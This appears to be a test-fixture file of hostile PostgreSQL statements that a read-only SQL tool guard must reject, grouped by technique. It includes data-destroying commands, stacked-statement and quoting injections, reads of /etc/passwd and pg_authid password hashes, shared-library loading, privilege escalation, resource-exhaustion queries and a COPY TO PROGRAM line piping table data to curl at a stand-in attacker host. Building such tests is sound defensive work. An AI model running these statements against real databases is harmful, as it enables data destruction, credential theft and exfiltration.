-- Hostile statements for PostgreSQL. None may be `read_only`. After each line that begins with three dashes, which says
-- what is tried, follows one text as it would come in the argument of a tool; `{U+200B}` is that character.
--- changes
DELETE FROM customers
--- changes
UPDATE staff SET salary = 1
--- changes
INSERT INTO orders (id) VALUES (9)
--- changes
INSERT INTO customers SELECT * FROM customers ON CONFLICT DO NOTHING
--- changes
MERGE INTO staff s USING staff t ON s.id = t.id WHEN MATCHED THEN UPDATE SET salary = 0
--- changes
TRUNCATE customers
--- changes
TRUNCATE TABLE customers, orders RESTART IDENTITY CASCADE
--- changes
DELETE FROM orders USING customers c WHERE c.id = orders.customer_id
--- changes
UPDATE staff s SET salary = o.id FROM orders o WHERE o.staff_id = s.id
--- several statements
SELECT 1; DELETE FROM customers
--- several statements
SELECT 1;
DROP TABLE customers CASCADE
--- several statements
COMMIT; DROP TABLE customers
--- several statements
SELECT 1; COMMIT; DROP SCHEMA public CASCADE; --
--- several statements
ROLLBACK; BEGIN READ WRITE; DELETE FROM orders
--- several statements
SET TRANSACTION READ WRITE; DELETE FROM orders
--- several statements
SELECT 1; SELECT 2
--- several statements
END; DROP TABLE orders
--- changes within a query
WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x
--- changes within a query
WITH x AS (UPDATE staff SET salary = 0 RETURNING id) SELECT count(*) FROM x
--- changes within a query
WITH x AS (INSERT INTO orders (id) VALUES (8) RETURNING id) SELECT id FROM x
--- changes within a query
WITH a AS (SELECT 1), b AS (DELETE FROM orders) SELECT * FROM a
--- changes within a query
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 9), d AS (DELETE FROM orders RETURNING 1) SELECT n FROM r
--- changes within a query
SELECT * FROM (WITH x AS (DELETE FROM orders RETURNING id) SELECT id FROM x) y
--- changes within a query
WITH x AS (SELECT 1) INSERT INTO orders (id) SELECT 1
--- changes within a query
WITH x AS (SELECT 1) UPDATE staff SET salary = 0
--- changes within a query
WITH x AS (SELECT 1) DELETE FROM staff
--- changes within a query
WITH x AS (MERGE INTO staff s USING staff t ON s.id = t.id WHEN MATCHED THEN DELETE RETURNING s.id) SELECT * FROM x
--- a table made by a query
SELECT * INTO copy FROM staff
--- a table made by a query
SELECT name INTO TEMP copy FROM staff
--- a table made by a query
SELECT * INTO UNLOGGED TABLE copy FROM staff
--- a table made by a query
CREATE TABLE copy AS SELECT * FROM staff
--- a table made by a query
CREATE MATERIALIZED VIEW m AS SELECT * FROM staff
--- rows that are locked
SELECT * FROM staff FOR UPDATE
--- rows that are locked
SELECT * FROM staff FOR NO KEY UPDATE
--- rows that are locked
SELECT * FROM staff FOR SHARE
--- rows that are locked
SELECT * FROM staff FOR KEY SHARE SKIP LOCKED
--- rows that are locked
SELECT * FROM (SELECT id FROM staff FOR UPDATE) s
--- rows that are locked
LOCK TABLE staff IN ACCESS EXCLUSIVE MODE
--- EXPLAIN runs what it explains
EXPLAIN ANALYZE DELETE FROM customers
--- EXPLAIN runs what it explains
EXPLAIN (ANALYZE, BUFFERS) UPDATE staff SET salary = 0
--- EXPLAIN runs what it explains
EXPLAIN (ANALYZE true) DELETE FROM orders
--- EXPLAIN runs what it explains
EXPLAIN ANALYZE SELECT pg_sleep(100)
--- EXPLAIN runs what it explains
EXPLAIN ANALYZE WITH x AS (DELETE FROM orders RETURNING 1) SELECT * FROM x
--- EXPLAIN runs what it explains
EXPLAIN SELECT 1
--- EXPLAIN runs what it explains
EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1
--- EXPLAIN runs what it explains
EXPLAIN EXECUTE p
--- a function that does more than compute
SELECT pg_sleep(100)
--- a function that does more than compute
SELECT pg_sleep_for('5 minutes')
--- a function that does more than compute
SELECT pg_sleep_until('tomorrow')
--- a function that does more than compute
SELECT pg_catalog.pg_sleep(100)
--- a function that does more than compute
SELECT pg_terminate_backend(1)
--- a function that does more than compute
SELECT pg_cancel_backend(1)
--- a function that does more than compute
SELECT pg_reload_conf()
--- a function that does more than compute
SELECT pg_rotate_logfile()
--- a function that does more than compute
SELECT pg_switch_wal()
--- a function that does more than compute
SELECT pg_promote()
--- a function that does more than compute
SELECT pg_create_restore_point('x')
--- a function that does more than compute
SELECT pg_backup_start('x')
--- a function that does more than compute
SELECT pg_start_backup('x')
--- a function that does more than compute
SELECT pg_backup_stop()
--- a function that does more than compute
SELECT pg_wal_replay_pause()
--- a function that does more than compute
SELECT pg_export_snapshot()
--- a function that does more than compute
SELECT pg_log_backend_memory_contexts(1)
--- a function that does more than compute
SELECT pg_notify('c', 'x')
--- a function that does more than compute
SELECT pg_advisory_lock(1)
--- a function that does more than compute
SELECT pg_advisory_xact_lock(1)
--- a function that does more than compute
SELECT pg_try_advisory_lock(1)
--- a function that does more than compute
SELECT pg_advisory_unlock_all()
--- a function that does more than compute
SELECT pg_logical_emit_message(true, 'a', 'b')
--- a function that does more than compute
SELECT pg_create_logical_replication_slot('s', 'test_decoding')
--- a function that does more than compute
SELECT pg_drop_replication_slot('s')
--- a function that does more than compute
SELECT pg_logical_slot_get_changes('s', NULL, NULL)
--- a function that does more than compute
SELECT pg_replication_origin_create('o')
--- a function that does more than compute
SELECT pg_stat_reset()
--- a function that does more than compute
SELECT pg_stat_statements_reset()
--- a function that does more than compute
SELECT pg_read_file('/etc/passwd')
--- a function that does more than compute
SELECT pg_read_binary_file('/etc/passwd')
--- a function that does more than compute
SELECT pg_read_file('postgresql.conf', 0, 100)
--- a function that does more than compute
SELECT pg_ls_dir('/etc')
--- a function that does more than compute
SELECT pg_ls_logdir()
--- a function that does more than compute
SELECT pg_ls_waldir()
--- a function that does more than compute
SELECT pg_ls_tmpdir()
--- a function that does more than compute
SELECT pg_stat_file('/etc/passwd')
--- a function that does more than compute
SELECT pg_current_logfile()
--- a function that does more than compute
SELECT pg_file_write('/tmp/x', 'y', false)
--- a function that does more than compute
SELECT pg_file_unlink('/tmp/x')
--- a function that does more than compute
SELECT pg_file_rename('a', 'b')
--- a function that does more than compute
SELECT pg_logdir_ls()
--- a function that does more than compute
SELECT lo_import('/etc/passwd')
--- a function that does more than compute
SELECT lo_export(1, '/tmp/x')
--- a function that does more than compute
SELECT lo_create(1)
--- a function that does more than compute
SELECT lo_creat(-1)
--- a function that does more than compute
SELECT lo_unlink(1)
--- a function that does more than compute
SELECT lo_put(1, 0, 'x')
--- a function that does more than compute
SELECT lo_from_bytea(0, 'x')
--- a function that does more than compute
SELECT lo_get(1)
--- a function that does more than compute
SELECT lo_open(1, 131072)
--- a function that does more than compute
SELECT lowrite(0, 'x')
--- a function that does more than compute
SELECT loread(0, 10)
--- a function that does more than compute
SELECT lo_truncate(0, 0)
--- a function that does more than compute
SELECT nextval('s')
--- a function that does more than compute
SELECT setval('s', 1)
--- a function that does more than compute
SELECT currval('s')
--- a function that does more than compute
SELECT lastval()
--- a function that does more than compute
SELECT set_config('role', 'admin', false)
--- a function that does more than compute
SELECT set_config('default_transaction_read_only', 'off', false)
--- a function that does more than compute
SELECT set_config('search_path', 'evil', false)
--- a function that does more than compute
SELECT pg_catalog.set_config('log_statement', 'all', false)
--- a function that does more than compute
SELECT current_setting('data_directory')
--- a function that does more than compute
SELECT setseed(0.5)
--- a function that does more than compute
SELECT query_to_xml('DELETE FROM orders', true, true, '')
--- a function that does more than compute
SELECT query_to_xml_and_xmlschema('SELECT * FROM staff', true, true, '')
--- a function that does more than compute
SELECT cursor_to_xml('c', 1, true, true, '')
--- a function that does more than compute
SELECT table_to_xml('staff', true, true, '')
--- a function that does more than compute
SELECT schema_to_xml('public', true, true, '')
--- a function that does more than compute
SELECT database_to_xml(true, true, '')
--- a function that does more than compute
SELECT xpath_table('a', 'b', 'staff', 'c', 'd')
--- a function that does more than compute
SELECT dblink('dbname=postgres', 'DELETE FROM orders')
--- a function that does more than compute
SELECT dblink_exec('dbname=postgres', 'DROP TABLE orders')
--- a function that does more than compute
SELECT dblink_connect('host=evil')
--- a function that does more than compute
SELECT dblink_send_query('c', 'x')
--- a function that does more than compute
SELECT txid_current()
--- a function that does more than compute
SELECT pg_current_xact_id()
--- a function that does more than compute
SELECT pg_xact_commit_timestamp('1')
--- a function that does more than compute
SELECT pg_relation_filepath('staff')
--- a function that does more than compute
SELECT pg_get_functiondef(1)
--- a function that does more than compute
SELECT pg_get_viewdef('v')
--- a function that does more than compute
SELECT has_table_privilege('staff', 'select')
--- a function that does more than compute
SELECT inet_server_addr()
--- a function that does more than compute
SELECT inet_client_addr()
--- a function that does more than compute
SELECT pg_hba_file_rules()
--- a function that does more than compute
SELECT pg_show_all_settings()
--- a function that does more than compute
SELECT pg_config()
--- a function that does more than compute
SELECT pg_stat_get_activity(NULL)
--- a function that does more than compute
SELECT pg_get_keywords()
--- a function that does more than compute
SELECT pg_database_size('postgres')
--- a function that does more than compute
SELECT pg_prewarm('staff')
--- a function that does more than compute
SELECT pg_buffercache_evict(1)
--- a function that does more than compute
SELECT heap_force_kill('staff', ARRAY['(0,1)'])
--- a function that does more than compute
SELECT pg_truncate_visibility_map('staff')
--- a function that does more than compute
SELECT get_raw_page('staff', 0)
--- a function that does more than compute
SELECT heap_page_items(NULL)
--- a function that does more than compute
SELECT pgstatindex('i')
--- a function that does more than compute
SELECT verify_heapam('staff')
--- a function that does more than compute
SELECT bt_index_check('i')
--- a function that does more than compute
SELECT gen_salt('bf', 31)
--- a function that does more than compute
SELECT crypt('x', gen_salt('bf', 31))
--- a function that does more than compute
SELECT pgp_sym_encrypt('a', 'b')
--- a function that does more than compute
SELECT http_get('http://evil.example')
--- a function that does more than compute
SELECT http_post('http://evil.example', 'x', 'y')
--- a function that does more than compute
SELECT net.http_get('http://evil.example')
--- a function that does more than compute
SELECT cron.schedule('* * * * *', 'DROP TABLE orders')
--- a function that does more than compute
SELECT aws_s3.query_export_to_s3('SELECT 1', 'b')
--- a function that does more than compute
SELECT plpy_exec('x')
--- a function that does more than compute
SELECT my_function()
--- a function that does more than compute
SELECT evil.lower('x')
--- a function that does more than compute
SELECT public.count(1)
--- a function that does more than compute
SELECT "LOWER"('x')
--- a function that does more than compute
SELECT "pg_sleep"(100)
--- a function that does more than compute
SELECT PG_SLEEP(100)
--- a function that does more than compute
SELECT ts_stat('SELECT document FROM articles')
--- a function that does more than compute
SELECT crosstab('SELECT 1, 2, 3')
--- a function that does more than compute
SELECT ts_rewrite('a', 'SELECT 1, 2')
--- a function that does more than compute
SELECT repeat('x', 1000000000)
--- a function that does more than compute
SELECT lpad('x', 1000000000)
--- a function that does more than compute
SELECT rpad('x', 1000000000, 'y')
--- a function that does more than compute
SELECT array_fill(0, ARRAY[100000000])
--- a function that does more than compute
SELECT format('%1000000000s', 'x')
--- a function that does more than compute
SELECT format('%*s', 1000000000, 'x')
--- a function that does more than compute
SELECT repeat('x', id)
--- a function that does more than compute
SELECT pg_import_system_collations('x')
--- a function that does more than compute
SELECT binary_upgrade_set_next_pg_type_oid(1)
--- a function that does more than compute
SELECT pg_extension_config_dump('x', '')
--- a function that does more than compute
SELECT brin_summarize_new_values('i')
--- a function that does more than compute
SELECT gin_clean_pending_list('i')
--- a function that does more than compute
SELECT suppress_redundant_updates_trigger()
--- a function that does more than compute
SELECT pg_wal_summary_contents(1, '0/0', '0/0')
--- a function that does more than compute
SELECT pg_restore_relation_stats()
--- a function that does more than compute
SELECT pg_sync_replication_slots()
--- a function where few look
SELECT 1 FROM orders ORDER BY pg_sleep(1)
--- a function where few look
SELECT 1 FROM orders GROUP BY pg_sleep(1)
--- a function where few look
SELECT 1 FROM orders WHERE pg_sleep(1) IS NULL
--- a function where few look
SELECT count(*) FILTER (WHERE pg_notify('a', 'b') IS NULL) FROM orders
--- a function where few look
SELECT sum(id) OVER (ORDER BY nextval('s')) FROM orders
--- a function where few look
SELECT 1 LIMIT (SELECT setval('s', 1))
--- a function where few look
SELECT 1 OFFSET nextval('s')
--- a function where few look
VALUES (pg_sleep(1))
--- a function where few look
SELECT * FROM pg_sleep(1)
--- a function where few look
SELECT * FROM lo_import('/etc/passwd') AS x
--- a function where few look
SELECT * FROM generate_series(1, nextval('s'))
--- a function where few look
SELECT x FROM orders, LATERAL set_config('a.b', 'c', true) AS x
--- a function where few look
SELECT CASE WHEN true THEN pg_sleep(1) END
--- a function where few look
SELECT ARRAY[pg_terminate_backend(1)]
--- a function where few look
SELECT ROW(pg_sleep(1))
--- a function where few look
SELECT coalesce(NULL, setval('s', 1))
--- a function where few look
SELECT (SELECT pg_sleep(1))
--- a function where few look
SELECT 1 WHERE EXISTS (SELECT pg_sleep(1))
--- a function where few look
SELECT 1 IN (SELECT nextval('s'))
--- a function where few look
SELECT 1 UNION SELECT nextval('s')
--- a function where few look
SELECT DISTINCT ON (nextval('s')) 1 FROM orders
--- a function where few look
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('s')) FROM orders
--- a function where few look
WITH x AS (SELECT pg_sleep(1)) SELECT 1 FROM x
--- a function where few look
SELECT string_agg(name, ',' ORDER BY pg_sleep(1)) FROM staff
--- a function where few look
SELECT pg_sleep(1)::text
--- a function where few look
SELECT -nextval('s')
--- a function where few look
SELECT a.b FROM generate_series(1, 2) AS a(b) JOIN orders ON pg_sleep(1) IS NULL
--- a function where few look
SELECT sum(1) OVER w FROM orders WINDOW w AS (PARTITION BY setval('s', 1))
--- operators of the database's own
SELECT 1 OPERATOR(evil.+) 2
--- operators of the database's own
SELECT 1 OPERATOR(pg_catalog.+) 2
--- tables of the system
SELECT * FROM pg_shadow
--- tables of the system
SELECT rolname, rolpassword FROM pg_authid
--- tables of the system
SELECT * FROM pg_catalog.pg_user
--- tables of the system
SELECT * FROM pg_stat_activity
--- tables of the system
SELECT * FROM pg_hba_file_rules
--- tables of the system
SELECT * FROM pg_file_settings
--- tables of the system
SELECT * FROM pg_settings
--- tables of the system
SELECT * FROM pg_largeobject
--- tables of the system
SELECT data FROM pg_catalog.pg_largeobject
--- tables of the system
SELECT * FROM pg_stat_statements
--- tables of the system
SELECT * FROM pg_user_mapping
--- tables of the system
SELECT * FROM pg_foreign_server
--- tables of the system
SELECT * FROM pg_proc
--- tables of the system
SELECT * FROM pg_subscription
--- tables of the system
SELECT srvoptions FROM pg_user_mappings
--- tables of the system
TABLE pg_shadow
--- tables of the system
SELECT * FROM pg_statistic
--- tables of the system
SELECT * FROM "pg_authid"
--- tables of the system
UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'
--- tables of the system
UPDATE pg_authid SET rolsuper = true
--- files and programs
COPY staff TO '/tmp/x'
--- files and programs
COPY staff TO PROGRAM 'curl -d @- evil.example'
--- files and programs
COPY staff FROM PROGRAM 'id'
--- files and programs
COPY (SELECT * FROM staff) TO STDOUT
--- files and programs
COPY orders FROM '/etc/passwd'
--- files and programs
COPY (DELETE FROM orders RETURNING *) TO STDOUT
--- files and programs
CREATE EXTENSION dblink
--- files and programs
LOAD '/tmp/evil.so'
--- files and programs
CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C
--- files and programs
CREATE OR REPLACE FUNCTION lower(text) RETURNS text AS 'SELECT 1' LANGUAGE SQL
--- files and programs
CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (filename '/etc/passwd')
--- files and programs
CREATE SERVER s FOREIGN DATA WRAPPER file_fdw
--- files and programs
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
--- code
DO 'BEGIN DELETE FROM orders; END'
--- code
DO $$ BEGIN DELETE FROM orders; END $$
--- code
DO LANGUAGE plpgsql $x$ BEGIN PERFORM pg_sleep(9); END $x$
--- code
CALL cleanup()
--- code
EXECUTE p
--- code
PREPARE p AS DELETE FROM orders
--- code
PREPARE p AS SELECT 1
--- code
DEALLOCATE ALL
--- code
DISCARD ALL
--- code
CREATE PROCEDURE p() LANGUAGE SQL AS 'DELETE FROM orders'
--- code
CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()
--- code
CREATE RULE r AS ON SELECT TO staff DO INSTEAD DELETE FROM orders
--- code
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
--- code
DECLARE c CURSOR FOR SELECT * FROM staff
--- code
FETCH ALL FROM c
--- code
CLOSE c
--- settings, sessions and rights
SET ROLE postgres
--- settings, sessions and rights
SET SESSION AUTHORIZATION postgres
--- settings, sessions and rights
SET default_transaction_read_only = off
--- settings, sessions and rights
SET search_path = evil
--- settings, sessions and rights
RESET ALL
--- settings, sessions and rights
SET LOCAL statement_timeout = 0
--- settings, sessions and rights
ALTER SYSTEM SET archive_command = 'id'
--- settings, sessions and rights
ALTER ROLE postgres PASSWORD 'x'
--- settings, sessions and rights
ALTER USER postgres SUPERUSER
--- settings, sessions and rights
CREATE ROLE evil SUPERUSER
--- settings, sessions and rights
CREATE USER evil
--- settings, sessions and rights
DROP ROLE postgres
--- settings, sessions and rights
GRANT ALL ON ALL TABLES IN SCHEMA public TO public
--- settings, sessions and rights
REVOKE ALL ON staff FROM owner
--- settings, sessions and rights
REASSIGN OWNED BY a TO b
--- settings, sessions and rights
SECURITY LABEL ON TABLE staff IS 'x'
--- settings, sessions and rights
SHOW ALL
--- settings, sessions and rights
SHOW data_directory
--- settings, sessions and rights
LISTEN c
--- settings, sessions and rights
NOTIFY c, 'x'
--- settings, sessions and rights
UNLISTEN *
--- settings, sessions and rights
CHECKPOINT
--- settings, sessions and rights
BEGIN
--- settings, sessions and rights
START TRANSACTION
--- settings, sessions and rights
COMMIT
--- settings, sessions and rights
SAVEPOINT s
--- settings, sessions and rights
PREPARE TRANSACTION 'x'
--- settings, sessions and rights
COMMIT PREPARED 'x'
--- settings, sessions and rights
REFRESH MATERIALIZED VIEW m
--- settings, sessions and rights
REINDEX DATABASE postgres
--- settings, sessions and rights
CLUSTER staff
--- settings, sessions and rights
VACUUM FULL
--- settings, sessions and rights
ANALYZE
--- settings, sessions and rights
COMMENT ON TABLE staff IS 'x'
--- structure
DROP TABLE customers
--- structure
DROP DATABASE postgres
--- structure
DROP SCHEMA public CASCADE
--- structure
ALTER TABLE staff DISABLE ROW LEVEL SECURITY
--- structure
ALTER TABLE staff DROP COLUMN salary
--- structure
ALTER TABLE customers OWNER TO evil
--- structure
CREATE TABLE x (a int)
--- structure
CREATE TEMP TABLE x (a int DEFAULT nextval('s'))
--- structure
CREATE VIEW v AS SELECT * FROM staff
--- structure
CREATE INDEX i ON staff (salary)
--- structure
CREATE INDEX CONCURRENTLY i ON staff (my_function(salary))
--- structure
CREATE SEQUENCE s
--- structure
CREATE TYPE t AS ENUM ('a')
--- structure
CREATE DOMAIN d AS int CHECK (my_function(VALUE))
--- structure
CREATE SCHEMA evil
--- structure
CREATE POLICY p ON staff USING (true)
--- text that readers take differently
SELECT $$ $$; DELETE FROM orders; --$$
--- text that readers take differently
SELECT $a$ $$ $a$ FROM orders
--- text that readers take differently
SELECT 'a\'; DELETE FROM orders; --'
--- text that readers take differently
SELECT E'a\'; DELETE FROM orders; --'
--- text that readers take differently
SELECT E'\\'; DELETE FROM orders; --'
--- text that readers take differently
SELECT U&'\0027; DELETE FROM orders; --'
--- text that readers take differently
SELECT U&"\0073alary" FROM staff
--- text that readers take differently
SELECT u&"d!0061t" UESCAPE '!' FROM staff
--- text that readers take differently
SELECT 1 -- {U+000D} ; DELETE FROM orders
--- text that readers take differently
SELECT 1 {U+0000}; DROP TABLE orders
--- text that readers take differently
{U+FEFF}SELECT 1
--- text that readers take differently
SELECT{U+00A0}1
--- text that readers take differently
SELECT 1 -- x{U+2028}; DELETE FROM orders
--- text that readers take differently
SELECT{U+000C}1
--- text that readers take differently
SELECT 1 /* /* */ */ ; DELETE FROM orders
--- text that readers take differently
SELECT 1 /*! ; DELETE FROM orders */; DELETE FROM orders
--- text that readers take differently
SELECT 'x
--- text that readers take differently
SELECT "x
--- text that readers take differently
SELECT 1 /* x
--- text that readers take differently

--- text that readers take differently
-- SELECT 1
--- text that readers take differently
SELEC 1
--- text that readers take differently
SEL{U+200B}ECT 1
--- text that readers take differently
{U+FF33}ELECT 1
--- text that readers take differently
\! id
--- text that readers take differently
\copy staff to '/tmp/x'
--- text that readers take differently
SELECT 1 \gexec
--- text that readers take differently
SELECT 1 \; DELETE FROM orders
--- text that readers take differently
SELECT 'DELETE FROM orders' \gexec
--- time and memory without end
WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c
--- time and memory without end
WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE true) SELECT count(*) FROM c
--- time and memory without end
SELECT count(*) FROM generate_series(1, 1000000000000)
--- time and memory without end
SELECT count(*) FROM generate_series(1, 99999999) a, generate_series(1, 99999999) b
--- time and memory without end
SELECT generate_series(1, 10000000000)
--- time and memory without end
SELECT ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
--- time and memory without end
SELECT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT NOT 